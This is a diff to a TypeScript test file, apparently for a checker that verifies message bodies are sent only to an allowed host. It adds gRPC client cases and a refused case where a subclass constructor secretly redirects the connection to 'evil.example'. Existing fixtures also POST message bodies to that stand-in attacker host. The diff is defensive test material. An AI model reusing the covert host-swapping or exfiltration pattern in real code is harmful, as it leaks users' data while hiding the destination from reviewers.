@@ -124,6 +124,16 @@ const clientCases: readonly (readonly [name: string, start: string, call: string
     `import { createTransport } from 'nodemailer'; const api = createTransport({ host: NAME, port: 25 });`,
     `api.sendMail({ text: body })`,
   ],
+  [
+    'gRPC',
+    `import { Client, credentials } from '@grpc/grpc-js'; const api = new Client(NAME + ':443', credentials.createSsl());`,
+    `api.makeUnaryRequest('/notes.Notes/Write', encode, decode, { body }, () => {})`,
+  ],
+  [
+    'gRPC, a client of its own class',
+    `import { Client, credentials } from '@grpc/grpc-js'; class Notes extends Client {} const api = new Notes(NAME + ':443', credentials.createSsl());`,
+    `api.makeServerStreamRequest('/notes.Notes/Watch', encode, decode, { body })`,
+  ],
   ['ws', `import { WebSocket as Socket } from 'ws'; const api = new Socket(HOST);`, `api.send(body)`],
   ['Socket.IO', `import { io } from 'socket.io-client'; const api = io(HOST);`, `api.emit('message', body)`],
   [
@@ -134,7 +144,7 @@ const clientCases: readonly (readonly [name: string, start: string, call: string
 ];
 
 const withHost = (start: string): string =>
-  `const HOST = 'https://api.example'; const NAME = 'api.example'; const { body } = message; ${start} `;
+  `declare const encode: (value: object) => Buffer; declare const decode: (bytes: Buffer) => object; const HOST = 'https://api.example'; const NAME = 'api.example'; const { body } = message; ${start} `;
 
 const refusedCases: readonly (readonly [name: string, place: string, before: string])[] = [
   ['another host', `fetch('https://evil.example', { method: 'POST', body: message.body })`, ''],
@@ -180,6 +190,11 @@ const refusedCases: readonly (readonly [name: string, place: string, before: str
     `send(message.body)`,
     `async function send(text: string): Promise<void> { await fetch('https://api.example', { body: text }); await fetch('https://evil.example', { body: text }); }
 `,
+  ],
+  [
+    'a client whose constructor chooses the host',
+    `new Notes('api.example:443').makeUnaryRequest('/notes.Notes/Write', encode, decode, { body: message.body }, () => {})`,
+    `import { Client, credentials } from '@grpc/grpc-js'; declare const encode: (value: object) => Buffer; declare const decode: (bytes: Buffer) => object; class Notes extends Client { constructor(_: string) { super('evil.example:443', credentials.createSsl()); } } `,
   ],
   [
     'a class of the same name',
